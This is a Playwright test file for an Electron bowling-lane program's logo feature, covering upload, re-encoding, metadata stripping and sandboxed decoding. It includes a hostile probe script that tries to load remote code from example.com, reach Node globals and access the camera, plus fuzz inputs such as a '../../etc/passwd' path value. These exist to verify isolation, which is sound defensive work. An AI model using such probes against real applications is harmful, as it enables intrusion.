import { execFile } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import AxeBuilder from '@axe-core/playwright';
import type { Locator, Page } from '@playwright/test';
import type { DrawnLogo } from '../src/contract/contract.ts';
import { headOf, photograph, plainPng, pngFrom, pngOf } from '../src/saves/logo/testing/pictures.testing.ts';
import { call, currentGame } from '../drive/bridge.ts';
import { pastBounce } from '../drive/pauses.ts';
import { startGame } from '../drive/play.ts';
import { putBalls } from '../drive/put-game.ts';
import type { Program } from '../drive/program.ts';
import {
  drawnByLogoPage,
  inNextLogoPage,
  logoPageLives,
  takeTimers,
  toldByLogoPage,
} from './support/logo-page.ts';
import { savedPdf } from './support/pdf.ts';
import { PICTURE_KINDS } from './support/picture-kinds.ts';
import { expect, test } from './support/test.ts';

/** A dark disc on a transparent ground. */
const DISC = pngOf(300, 100, (x, y) => [20, 30, 90, Math.hypot(x - 150, (y - 50) * 2) < 90 ? 255 : 0]);

/** The user's answer to the file dialog: this file, or none. The program keeps it; no test has the dialog itself. */
async function answerWith({ app }: Pick<Program, 'app'>, file: string | null): Promise<void> {
  await app.evaluate(({ dialog }, path) => {
    dialog.showOpenDialog = () =>
      Promise.resolve({
        canceled: path === null,
        filePaths: path === null ? [] : [path],
      });
  }, file);
}

async function openSettings(page: Page): Promise<Locator> {
  await page.getByRole('button', { name: 'Settings' }).click();
  return page.locator('main.settings').getByRole('group', { name: 'Logo' });
}

/** A picture's width and height in pixels, once drawn. */
async function shown(page: Page, selector: string): Promise<readonly number[]> {
  const picture = page.locator(selector);
  await expect(picture).toBeVisible();
  return picture.evaluate(async (image) => {
    if (!(image instanceof HTMLImageElement)) throw new Error('no picture');
    await image.decode();
    return [image.naturalWidth, image.naturalHeight];
  });
}

async function rest(page: Page): Promise<void> {
  await page.clock.install();
  await page.reload();
  await page.locator('main').first().waitFor();
  await page.clock.fastForward('05:01');
  await expect(page.locator('.idle')).toBeVisible();
}

test('staff choose a logo: it is on the idle screen and on the sheet, outlives a restart, and is removed', async ({
  open,
  data,
}) => {
  const program = await open({ args: ['--players', 'PJS'] });
  const { page } = program;
  await call(page, 'settings.change', { houseName: 'Strike City' });
  await writeFile(join(data, 'disc.png'), DISC);
  await answerWith(program, join(data, 'disc.png'));
  const row = await openSettings(page);
  await row.getByRole('button', { name: 'Choose a picture' }).click();
  expect(await shown(page, 'main.settings img')).toEqual([300, 100]);
  await page.getByRole('button', { name: 'Close' }).click();
  await startGame(page);
  await putBalls(page, 'X 7 2');
  expect(await picturesOn(program)).toEqual([[300, 100]]);
  await program.stop();

  const next = await open({ own: true });
  await call(next.page, 'games.apply', ...(await stopped(next.page)));
  await rest(next.page);
  expect(await shown(next.page, '.idle img')).toEqual([300, 100]);
  await expect(next.page.locator('.idle h1')).toHaveText('Strike City');
  // A dark transparent logo is on a white plate on a dark screen.
  await expect(next.page.locator('.idle img')).toHaveCSS('background-color', 'rgb(255, 255, 255)');
  const { violations } = await new AxeBuilder({ page: next.page }).setLegacyMode(true).analyze();
  expect(violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html ?? ''}`)).toEqual([]);
  await next.page.mouse.click(640, 700);
  const settings = await openSettings(next.page);
  await settings.getByRole('button', { name: 'Remove' }).click();
  await expect(settings.getByRole('img')).toHaveCount(0);
  await expect(settings.getByRole('button', { name: 'Choose a picture' })).toBeVisible();
  expect(await call(next.page, 'program.load')).toMatchObject({ value: { logo: null } });
});

test(
  'a photograph is kept as a new PNG, small enough, without any of its camera data',
  { tag: '@long' },
  async ({ open, data }) => {
    const program = await open();
    const { page } = program;
    for (const [bytes, sides] of [
      [photograph(), [32, 20]],
      [sideways(photograph()), [20, 32]],
      [plainPng(4096, 1024), [1024, 256]],
      [plainPng(20, 2000), [5, 512]],
    ] as const) {
      await writeFile(join(data, 'camera'), bytes);
      await answerWith(program, join(data, 'camera'));
      expect(await call(page, 'logo.order', 'choose')).toMatchObject({
        ok: true,
        value: { width: sides[0], height: sides[1], plate: null },
      });
      // Searches the decoded picture, as base64 would hide the text.
      expect((await keptPng(data)).includes('Mary')).toBe(false);
    }
    // Noise, which PNG cannot compress.
    await writeFile(
      join(data, 'noise'),
      pngOf(900, 900, () => [noise(), noise(), noise(), 255]),
    );
    await answerWith(program, join(data, 'noise'));
    const { value } = (await call(page, 'logo.order', 'choose')) as { value: { id: string } };
    expect((await keptPng(data)).length).toBeLessThanOrEqual(1024 * 1024);
    const address = ofMain(`logo/${value.id}.png`);
    expect(await shownIn(page, address)).toEqual({ status: 200, type: 'image/png' });
    for (const other of [`${address}?`, ...['logo/', 'logo/0000000000000000.png', 'logo.json'].map(ofMain)])
      expect((await shownIn(page, other)).status).toBe(404);
  },
);

test('a file that is not a picture is refused with a message, and the logo stays', async ({ open, data }) => {
  const program = await open();
  const { page } = program;
  await writeFile(join(data, 'disc.png'), DISC);
  await answerWith(program, join(data, 'disc.png'));
  const row = await openSettings(page);
  await row.getByRole('button', { name: 'Choose a picture' }).click();
  await shown(page, 'main.settings img');
  const before = await readFile(join(data, 'logo.json'));
  const files: readonly (readonly [Uint8Array, RegExp])[] = [
    [
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
      /neither PNG nor JPEG/u,
    ],
    [DISC.subarray(0, DISC.length - 30), /damaged or empty/u],
    [pngFrom(headOf(65_535, 65_535), new Uint8Array(9)), /16 to 4096 pixels a side/u],
    [Buffer.alloc(4 * 1024 * 1024 + 1), /more than 4 MB/u],
  ];
  for (const [bytes, words] of files) {
    await writeFile(join(data, 'hostile.png'), bytes);
    await answerWith(program, join(data, 'hostile.png'));
    await pastBounce(page);
    await row.getByRole('button', { name: 'Change' }).click();
    await expect(page.locator('main.settings .message')).toHaveText(words);
    await expect(page.locator('main.settings .message')).toHaveText(/The logo stays as it was\./u);
    // The message is long and calls for action, so it stays.
    await expect(row).toContainText(words);
  }
  expect(await shown(page, 'main.settings img')).toEqual([300, 100]);
  expect(await readFile(join(data, 'logo.json'))).toEqual(before);
  await answerWith(program, null);
  await pastBounce(page);
  await row.getByRole('button', { name: 'Change' }).click();
  await expect(row).toContainText('a PNG or JPEG');
});

/** Asks for everything that a page taken over by its picture may want, then draws the picture all the same. */
const HOSTILE = `(() => {
  const own = globalThis.drawLogo;
  const tried = (promise) => promise.then(() => 'given', () => 'refused');
  const loaded = (kind, address) => new Promise((resolve) => {
    const element = document.createElement(kind);
    element.onload = () => resolve('given');
    element.onerror = () => resolve('refused');
    Object.assign(element, { src: address });
    document.documentElement.append(element);
  });
  const probe = (async () => ({
    known: ['lane', 'require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer'].filter((name) => name in window),
    fetched: await tried(fetch('app://headpin/index.html')),
    called: await tried(fetch('https://example.com/')),
    asked: await new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve('given');
      request.onerror = () => resolve('refused');
      request.open('GET', 'app://headpin/index.html');
      request.send();
    }),
    picture: await loaded('img', 'app://headpin/LOGO'),
    script: await loaded('script', 'https://example.com/mine.js'),
    frame: frames.length,
    window: window.open('app://headpin/index.html') === null,
    camera: await tried(navigator.mediaDevices.getUserMedia({ video: true })),
  }))();
  void probe.then(() => {
    location.href = 'app://headpin/index.html';
  });
  globalThis.drawLogo = async (file, share) => {
    await probe;
    return own(file, share);
  };
  return probe;
})()`;

test('a picture is decoded where it can do no harm: that page has no bridge and can ask for nothing, and when it dies, hangs or lies the logo stays', async ({
  open,
  data,
}) => {
  const program = await open({ own: true });
  const { app, page } = program;
  await writeFile(join(data, 'disc.png'), DISC);
  await answerWith(program, join(data, 'disc.png'));
  const { value } = (await call(page, 'logo.order', 'choose')) as { value: { id: string } };
  const asked = app.evaluate(
    ({ app: electron, session }) =>
      new Promise((resolve) => {
        electron.once('web-contents-created', (_event, contents) => {
          // Not in Electron's types, and the only place where the preferences in force can be read.
          const known = contents as unknown as { getLastWebPreferences(): Record<string, unknown> };
          contents.once('will-frame-navigate', (event) => {
            resolve({
              ...known.getLastWebPreferences(),
              isApart: contents.session !== session.defaultSession && !contents.session.isPersistent(),
              stays: event.defaultPrevented,
            });
          });
        });
      }),
  );
  await inNextLogoPage(app, HOSTILE.replace('LOGO', `logo/${value.id}.png`));
  expect(await call(page, 'logo.order', 'choose')).toMatchObject({
    ok: true,
    value: { width: 300, height: 100 },
  });
  expect(await toldByLogoPage(app)).toEqual({
    known: [],
    fetched: 'refused',
    called: 'refused',
    asked: 'refused',
    picture: 'refused',
    script: 'refused',
    frame: 0,
    window: true,
    camera: 'refused',
  });
  const preferences = await asked;
  expect(preferences).toMatchObject({
    isApart: true,
    stays: true,
    contextIsolation: true,
    sandbox: true,
    nodeIntegration: false,
    webviewTag: false,
  });
  expect(preferences).not.toHaveProperty('preload');
  await expect.poll(() => logoPageLives(app)).toBe(false);

  // Now it dies, hangs, or answers nonsense, or too much.
  const timeIsUp = await takeTimers(app, 20_000);
  for (const [script, isLate] of [
    ['crash'],
    ['window.close()'],
    ['globalThis.drawLogo = () => { for (;;); }', true],
    ['globalThis.drawLogo = () => new Promise(() => undefined)', true],
    ['globalThis.drawLogo = () => { throw new Error() }'],
    [answering(`png: "${Buffer.from(DISC).toString('base64')}"`)],
    [answering('width: 300, height: 100, pixels: "../../etc/passwd"')],
    [answering('width: 300, height: 100, pixels: "A".repeat(64 * 1024 * 1024)')],
  ] as const) {
    await inNextLogoPage(app, script);
    const answer = call(page, 'logo.order', 'choose');
    await toldByLogoPage(app);
    if (isLate === true) await timeIsUp();
    expect(await answer, script).toEqual({ ok: false, error: { code: 'bad-logo', reason: 'broken' } });
    await expect.poll(() => logoPageLives(app), script).toBe(false);
  }
  expect(await call(page, 'program.load')).toMatchObject({ value: { logo: { id: value.id } } });
});

/** A page that was taken over answers this. */
function answering(drawn: string): string {
  return `globalThis.drawLogo = () => ({ kind: 'drawn', ${drawn}, plate: null })`;
}

test(
  'every kind of picture becomes a logo, or is refused for what it is',
  { tag: '@long' },
  async ({ open, data }) => {
    const { app, page } = await open({ own: true });
    await writeFile(join(data, 'empty.png'), plainPng(64, 64, [0, 0, 0, 0]));
    await answerWith({ app }, join(data, 'empty.png'));
    expect(await call(page, 'logo.order', 'choose')).toMatchObject({ error: { reason: 'broken' } });
    const answers = await drawnByLogoPage(
      app,
      PICTURE_KINDS.map(([, file]) => file),
    );
    const told = PICTURE_KINDS.map(([what], index) => `${what}: ${became(answers[index])}`);
    expect(told).toEqual(PICTURE_KINDS.map(([what, , becomes]) => `${what}: ${becomes}`));
    // Upright, mirrored, on their heads and sides: no two of the eight look the same.
    const turned = answers.filter((_answer, index) =>
      /orientation [1-8]$/u.test(PICTURE_KINDS[index]?.[0] ?? ''),
    );
    expect(new Set(turned.map((answer) => (answer.kind === 'drawn' ? answer.pixels : ''))).size).toBe(8);
  },
);

test(
  'a window that fills the screen opens no folders: the logo is called logo.png',
  { tag: '@long' },
  async ({ open, data }) => {
    const program = await open({ fullScreen: true });
    const { app, page } = program;
    await app.evaluate(({ dialog }) => {
      dialog.showOpenDialog = () => Promise.reject(new Error('a bowler looks through folders'));
    });
    const row = await openSettings(page);
    await expect(row).toContainText('logo.png or logo.jpg on a USB stick');
    await row.getByRole('button', { name: 'Choose a picture' }).click();
    await expect(page.locator('main.settings .message')).toHaveText(/^No logo.png or logo.jpg was found/u);
    await writeFile(join(data, 'LOGO.PNG'), DISC);
    await pastBounce(page);
    await row.getByRole('button', { name: 'Choose a picture' }).click();
    expect(await shown(page, 'main.settings img')).toEqual([300, 100]);
  },
);

test('bowlers cannot change the logo where a PIN is set; with the PIN they are staff', async ({
  open,
  data,
}) => {
  const program = await open();
  const { page } = program;
  await writeFile(join(data, 'disc.png'), DISC);
  await answerWith(program, join(data, 'disc.png'));
  await call(page, 'staff.order', { kind: 'setPin', pin: '2468' });
  await call(page, 'staff.order', { kind: 'leave' });
  for (const order of ['choose', 'remove'])
    expect(await call(page, 'logo.order', order)).toEqual({ ok: false, error: { code: 'staff-only' } });
  await call(page, 'staff.order', { kind: 'enter', pin: '2468' });
  expect(await call(page, 'logo.order', 'choose')).toMatchObject({ ok: true, value: { width: 300 } });
});

test(
  'a damaged logo is left out, a notice says so, and the lane continues',
  { tag: '@long' },
  async ({ open, data }) => {
    const program = await open();
    await writeFile(join(data, 'disc.png'), DISC);
    await answerWith(program, join(data, 'disc.png'));
    expect(await call(program.page, 'logo.order', 'choose')).toMatchObject({ ok: true });
    await program.stop();
    const file = await readFile(join(data, 'logo.json'));
    await writeFile(join(data, 'logo.json'), file.with(300, file[300] === 0x41 ? 0x42 : 0x41));
    const { page } = await open({ keepNotices: true });
    await expect(page.locator('.notice').first()).toContainText('The house’s logo could not be read');
    expect(await call(page, 'program.load')).toMatchObject({ value: { logo: null } });
  },
);

/** The same photograph with Exif orientation 6, as from a camera held sideways. */
function sideways(jpeg: Uint8Array): Uint8Array {
  const exif = Buffer.from('ffe1002245786966000049492a0008000000010012010300010000000600000000000000', 'hex');
  return new Uint8Array(Buffer.concat([jpeg.subarray(0, 2), exif, jpeg.subarray(2)]));
}

/** The logo's sides and what it stands on, or why it is refused. */
function became(answer: DrawnLogo | undefined): string {
  if (answer?.kind !== 'drawn') return answer?.reason ?? 'nothing';
  const { width, height } = answer;
  return `${String(width)}x${String(height)}${answer.plate === null ? '' : ` on ${answer.plate}`}`;
}

const noise = (): number => Math.floor(Math.random() * 256);

async function stopped(page: Page): Promise<readonly unknown[]> {
  const { id, generation } = await currentGame(page);
  return [id, generation, { kind: 'stop' }];
}

async function keptPng(data: string): Promise<Buffer> {
  const { logo } = JSON.parse(await readFile(join(data, 'logo.json'), 'utf8')) as { logo: { png: string } };
  return Buffer.from(logo.png, 'base64');
}

function ofMain(path: string): string {
  return `app://headpin/${path}`;
}

/** Main's answer to a page that shows what is there as a picture. */
async function shownIn(page: Page, address: string): Promise<{ status: number; type: string | undefined }> {
  const answer = page.waitForResponse(address);
  await page.evaluate((source) => {
    new Image().src = source;
  }, address);
  const response = await answer;
  return { status: response.status(), type: response.headers()['content-type'] };
}

/** The sizes of the pictures on the current game's sheet; its QR code is drawn as lines. */
async function picturesOn(program: Program): Promise<readonly (readonly number[])[]> {
  const { stdout } = await promisify(execFile)('pdfimages', ['-list', await savedPdf(program)]);
  const rows = stdout
    .split('\n')
    .slice(2)
    .map((row) => row.trim().split(/\s+/u));
  return rows
    .filter(([, , kind]) => kind === 'image')
    .map(([, , , width, height]) => [Number(width), Number(height)]);
}
